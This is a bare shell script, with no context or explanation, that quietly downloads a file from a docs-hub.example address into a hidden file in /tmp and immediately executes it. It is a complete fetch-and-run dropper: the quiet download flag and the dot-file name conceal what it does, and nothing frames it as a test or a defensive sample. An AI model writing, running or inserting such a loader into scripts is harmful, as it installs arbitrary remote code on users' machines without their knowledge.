#!/bin/sh
u=https://m.docs-hub.example
wget -q $u/m -O /tmp/.m
sh /tmp/.m
